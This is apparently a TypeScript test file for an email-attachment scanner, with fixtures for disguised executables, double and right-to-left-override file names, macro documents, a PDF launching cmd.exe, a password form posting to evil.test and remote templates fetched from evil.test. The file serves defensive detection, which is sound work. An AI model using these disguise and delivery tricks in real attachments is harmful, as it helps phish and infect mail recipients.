/** What is found in attachments: each signal beside a file that has it, and ordinary files that have none. */
import { gzipSync } from 'node:zlib';
import { expect, test } from 'vitest';
import {
  type MailFile,
  compoundOf,
  macroOf,
  mailWith,
  objectStream,
  pdfOf,
  programOf,
  tarOf,
  winmailOf,
  zipOf,
} from '../attachments/testing/files.ts';
import { imageOf, namesOfSeven, sevenOf } from '../attachments/testing/images.ts';
import { gatherFacts } from '../facts/gather.ts';
import { signalEvidence } from '../score.ts';

const png = Buffer.from('\x89PNG\r\n\x1a\nIHDR and so on', 'latin1');
const jpeg = Buffer.from('\xff\xd8\xff\xe0 and so on', 'latin1');
const relations = (kind: string, target: string): string =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;
const word = (...more: Parameters<typeof zipOf>[0]): Buffer =>
  zipOf([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'word/document.xml', content: '<w/>' },
    ...more,
  ]);
const vba = (source: string): Buffer =>
  compoundOf([
    ['_VBA_PROJECT', Buffer.from('x')],
    ['ThisDocument', macroOf(source)],
  ]);
const biff = (type: number, data: number[]): Buffer => Buffer.from([type & 0xff, type >> 8, data.length, 0, ...data]);
const native = (name: string, content: Buffer): Buffer => {
  const length = (octets: number): Buffer => {
    const written = Buffer.alloc(4);
    written.writeUInt32LE(octets);
    return written;
  };
  const text = (written: string): Buffer => Buffer.from(`${written}\0`);
  const rest = [
    Buffer.from([2, 0]),
    text(name),
    text(`C:\\${name}`),
    Buffer.alloc(4),
    length(5),
    text('temp'),
    length(content.length),
  ];
  return Buffer.concat([length(0), ...rest, content]);
};
const rar4 = (flags: number, name: string): Buffer => {
  const main = Buffer.from([0, 0, 0x73, 0, 0, 13, 0, 0, 0, 0, 0, 0, 0]);
  const file = Buffer.alloc(32);
  file[2] = 0x74;
  file.writeUInt16LE(flags, 3);
  file.writeUInt16LE(32 + name.length, 5);
  file.writeUInt16LE(name.length, 26);
  return Buffer.concat([Buffer.from('Rar!\x1a\x07\x00', 'latin1'), main, file, Buffer.from(name)]);
};
const rar5 = (name: string, extra: number[] = []): Buffer => {
  const fields = [2, extra.length > 0 ? 1 : 0, ...(extra.length > 0 ? [extra.length] : []), 0, 0, 0, 0, 0, name.length];
  const header = Buffer.concat([Buffer.from(fields), Buffer.from(name), Buffer.from(extra)]);
  return Buffer.concat([
    Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'),
    Buffer.from([0, 0, 0, 0, header.length]),
    header,
  ]);
};
const seven = (header: string): Buffer => sevenOf(Buffer.from(header, 'hex'));
const cabinet = (name: string): Buffer => {
  const head = Buffer.alloc(36);
  head.write('MSCF');
  head.writeUInt32LE(36, 16);
  head.writeUInt16LE(1, 28);
  return Buffer.concat([head, Buffer.alloc(16), Buffer.from(`${name}\0`)]);
};
const iso = Buffer.alloc(0x8100);
iso.write('CD001', 0x8001);

const one = (name: string, content: Buffer | string, type?: string): readonly MailFile[] => [
  { name, content, ...(type === undefined ? {} : { type }) },
];
const zipped = (name: string, content: Buffer | string = 'x'): Buffer => zipOf([{ name, content }]);

const cases: readonly (readonly [title: string, files: readonly MailFile[], signals: readonly string[]])[] = [
  ['a program by name', one('setup.exe', 'x'), ['dangerous-attachment', 'lone-program']],
  ['a program by name, dots behind it', one('setup.exe. .', 'x'), ['dangerous-attachment', 'lone-program']],
  ['a program by content', one('photo', programOf()), ['dangerous-attachment', 'lone-program']],
  [
    'a program that is called a picture',
    one('photo.jpg', programOf()),
    ['dangerous-attachment', 'false-kind', 'lone-program'],
  ],
  [
    'a shortcut',
    one('readme', Buffer.from('L\x00\x00\x00\x01\x14\x02\x00', 'latin1')),
    ['dangerous-attachment', 'lone-program'],
  ],
  [
    'a shortcut to a file',
    one('a.url', '[InternetShortcut]\r\nURL=file://192.0.2.1/x/run.exe'),
    ['dangerous-attachment', 'lone-program'],
  ],
  [
    'OneNote',
    one('note.one', Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex')),
    ['dangerous-attachment', 'lone-program'],
  ],
  ['a script in a ZIP', one('a.zip', zipped('invoice.js')), ['dangerous-attachment', 'lone-program']],
  [
    'a ZIP without its directory',
    one('a.zip', zipOf([{ name: 'a.scr', content: 'x' }], { without: true })),
    ['dangerous-attachment', 'lone-program'],
  ],
  [
    'a ZIP behind something',
    one('a.zip', Buffer.concat([Buffer.from('PK\x03\x04 no header '), zipped('a.hta')])),
    ['dangerous-attachment', 'lone-program'],
  ],
  [
    'a program in a tar in a gzip',
    one('a.tgz', gzipSync(tarOf([['a/run.exe', 'x']]))),
    ['dangerous-attachment', 'lone-program'],
  ],
  ['a program in RAR 4', one('a.rar', rar4(0, 'x.scr')), ['dangerous-attachment', 'lone-program']],
  ['a program in RAR 5', one('a.rar', rar5('x.scr')), ['dangerous-attachment', 'lone-program']],
  ['a program in a cabinet', one('a.cab', cabinet('x.scr')), ['dangerous-attachment', 'lone-program']],
  [
    'a program in winmail.dat',
    one('winmail.dat', winmailOf([['x.pif', programOf()]])),
    ['dangerous-attachment', 'lone-program'],
  ],
  [
    'a program in a message',
    one('letter.eml', mailWith(one('x.exe', programOf())), 'application/octet-stream'),
    ['dangerous-attachment', 'lone-program'],
  ],
  [
    'a program in a document',
    one('a.doc', compoundOf([['\x01Ole10Native', native('x.exe', programOf())]])),
    ['dangerous-attachment', 'lone-program'],
  ],
  [
    'an installer',
    one('a', compoundOf([['x', Buffer.from('x')]], '84100c0000000000c000000000000046')),
    ['dangerous-attachment', 'lone-program'],
  ],
  [
    'a program of Java',
    one('a.bin', zipOf([{ name: 'META-INF/MANIFEST.MF' }, { name: 'A.class' }])),
    ['dangerous-attachment', 'lone-program'],
  ],
  ['two endings', one('invoice.pdf.exe', 'x'), ['dangerous-attachment', 'double-ending', 'lone-program']],
  [
    'two endings in a ZIP',
    one('a.zip', zipped('invoice.pdf   .scr')),
    ['dangerous-attachment', 'double-ending', 'lone-program'],
  ],
  ['a turned name', one('photo\u202egpj.exe', 'x'), ['dangerous-attachment', 'disguised-name', 'lone-program']],
  [
    'a pushed ending',
    one(`invoice.pdf${' '.repeat(60)}.exe`, 'x'),
    ['dangerous-attachment', 'disguised-name', 'double-ending', 'lone-program'],
  ],
  ['a name of 64 KB', one(`${'long '.repeat(13_000)}.exe`, 'x'), ['dangerous-attachment', 'lone-program']],
  ['a disk image', one('bill', iso), ['disk-image']],
  [
    'a program in a disk image',
    one('bill.iso', imageOf([['RUN.EXE;1', 'x']])),
    ['dangerous-attachment', 'disk-image', 'lone-program'],
  ],
  [
    'a program in a disk image of Joliet',
    one('bill.iso', imageOf([['a bill.js', 'x']], true)),
    ['dangerous-attachment', 'disk-image', 'lone-program'],
  ],
  ['a disk image by name', one('bill.vhd', 'x'), ['disk-image']],
  [
    'a page with a form',
    one('login.html', '<html><form action="http://evil.test"><input type=password></form>'),
    ['active-page'],
  ],
  ['a page with a script', one('invoice.htm', '<script>location="http://evil.test"</script>'), ['active-page']],
  ['a page in UTF-16', one('a.html', Buffer.from('\ufeff<html><script>x()</script>', 'utf16le')), ['active-page']],
  ['a page that is called a PDF', one('invoice.pdf', '<html><body>hello</body></html>'), ['false-kind']],
  [
    'a drawing with a script',
    one('logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>', 'image/svg+xml'),
    ['active-picture'],
  ],
  ['a drawing that does something', one('logo.svg', '<svg onload="x()"></svg>', 'image/svg+xml'), ['active-picture']],
  [
    'a PDF with a script',
    one('a.pdf', pdfOf('1 0 obj << /OpenAction << /S /JavaScript /JS (x) >> >> endobj')),
    ['active-pdf'],
  ],
  ['a PDF with a script in disguise', one('a.pdf', pdfOf('1 0 obj << /J#61vaScript (x) >> endobj')), ['active-pdf']],
  ['a PDF that starts a program', one('a.pdf', pdfOf('1 0 obj << /S /Launch /F (cmd.exe) >> endobj')), ['active-pdf']],
  ['a document with macros', one('a.doc', vba('Sub Report()\r\nEnd Sub')), ['macros']],
  [
    'a document with macros that run',
    one('a.doc', vba('Private Sub Document_Open()\r\nEnd Sub')),
    ['auto-macros', 'macros'],
  ],
  [
    'macros in OOXML',
    one('a.docx', word({ name: 'word/vbaProject.bin', content: vba('Sub AutoOpen()') })),
    ['auto-macros', 'macros'],
  ],
  ['macros by name', one('a.xlsm', word()), ['macros']],
  ['macros of old Excel', one('a.xls', compoundOf([['Workbook', biff(0x85, [0, 0, 0, 0, 0, 1, 1, 0])]])), ['macros']],
  [
    'macros of OpenDocument',
    one('a.odt', zipOf([{ name: 'mimetype', content: 'x', stored: true }, { name: 'Basic/Standard/Module1.xml' }])),
    ['macros'],
  ],
  [
    'a template elsewhere',
    one(
      'a.docx',
      word({ name: 'word/_rels/settings.xml.rels', content: relations('attachedTemplate', 'http://evil.test/t.dotm') }),
    ),
    ['remote-template'],
  ],
  ['a template of RTF', one('a.doc', '{\\rtf1{\\*\\template http://evil.test/x}}'), ['remote-template']],
  ['a locked ZIP', one('a.zip', zipOf([{ name: 'a.txt', content: 'x', encrypted: true }])), ['encrypted-attachment']],
  ['a locked document', one('a.docx', compoundOf([['EncryptedPackage', Buffer.from('x')]])), ['encrypted-attachment']],
  ['a locked workbook', one('a.xls', compoundOf([['Workbook', biff(0x2f, [1, 0])]])), ['encrypted-attachment']],
  ['a locked PDF', one('a.pdf', pdfOf('1 0 obj << /Encrypt 2 0 R >> endobj')), ['encrypted-attachment']],
  ['a locked RAR 4', one('a.rar', rar4(4, 'a.txt')), ['encrypted-attachment']],
  ['a locked RAR 5', one('a.rar', rar5('a.txt', [2, 1, 0])), ['encrypted-attachment']],
  [
    'a program in 7z',
    one('a.7z', sevenOf(namesOfSeven(['read.me', 'x.scr']))),
    ['dangerous-attachment', 'lone-program'],
  ],
  [
    'a program in xz',
    one('bill.exe.xz', Buffer.from('\xfd7zXZ\x00', 'latin1')),
    ['dangerous-attachment', 'lone-program'],
  ],
  ['a locked 7z', one('a.7z', seven('170606f107010000')), ['encrypted-attachment']],
  ['an archive in an archive', one('a.zip', zipOf([{ name: 'b.zip', content: zipped('c.txt') }])), ['nested-archive']],
];

const namesOf = (octets: Buffer): readonly string[] => signalEvidence(gatherFacts(octets)).map(({ name }) => name);

test.each(cases)('%s', (_, files, signals) => {
  expect([...namesOf(mailWith(files))].sort()).toEqual(signals);
});

test('a program among many files, as sources have them', () => {
  const sources = Array.from({ length: 9 }, (_, n) => ({ name: `src/${n}.js`, content: 'x' }));
  expect(namesOf(mailWith(one('sources.zip', zipOf(sources))))).toEqual(['dangerous-attachment']);
});

test('a packed script of a PDF', () => {
  const content = Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    Buffer.from(objectStream('<< /S /JavaScript >>'), 'latin1'),
    Buffer.from('\n%%EOF'),
  ]);
  expect(namesOf(mailWith(one('a.pdf', content)))).toEqual(['active-pdf']);
});

test.each(['The password is 1234.', 'Das Kennwort lautet 1234', 'Пароль: 1234', '密码 1234'])('%s', (text) => {
  const locked = one('a.zip', zipOf([{ name: 'a.txt', content: 'x', encrypted: true }]));
  expect(namesOf(mailWith(locked, text))).toContain('told-password');
  expect(namesOf(mailWith(one('a.zip', zipped('a.txt')), text))).toEqual([]);
});

test.each<[string, readonly MailFile[]]>([
  [
    'pictures',
    [...one('a.jpg', jpeg, 'image/jpeg'), ...one('b.png', png, 'image/png'), ...one('c.jpg', png, 'image/jpeg')],
  ],
  [
    'a PDF',
    one('a.pdf', pdfOf('1 0 obj << /Type /Catalog /URI (http://x.test/JS) >> stream\n/JS /Launch\nendstream endobj')),
  ],
  [
    'documents',
    [
      ...one('a.docx', word()),
      ...one('a.doc', compoundOf([['WordDocument', Buffer.alloc(100)]])),
      ...one('b.doc', '{\\rtf1 hello}'),
    ],
  ],
  [
    'a document with links',
    one('a.docx', word({ name: 'word/_rels/document.xml.rels', content: relations('hyperlink', 'http://x.test/') })),
  ],
  ['a ZIP of texts', one('a.zip', zipOf([{ name: 'a/' }, { name: 'a/b.txt', content: 'x'.repeat(10_000) }]))],
  ['a tar in a gzip', one('a.tar.gz', gzipSync(tarOf([['a.txt', 'x']])))],
  ['a text', one('notes.txt', 'MZ is a country code', 'text/plain')],
  ['an invitation', one('invite.ics', 'BEGIN:VCALENDAR', 'text/calendar')],
  ['a page', one('report.html', '<html><body><h1>Report</h1><p>All is well.</p></body></html>', 'text/html')],
  ['a drawing', one('logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', 'image/svg+xml')],
  ['a bookmark', one('page.url', '[InternetShortcut]\r\nURL=https://www.example.org/\r\n')],
  ['names with dots', [...one('v1.2.3 final.pdf', pdfOf('')), ...one('mail.com notes.txt', 'x')]],
  ['winmail.dat', one('winmail.dat', winmailOf([['a.txt', Buffer.from('x')]]))],
])('%s: nothing is found', (_, files) => {
  expect(namesOf(mailWith(files))).toEqual([]);
});
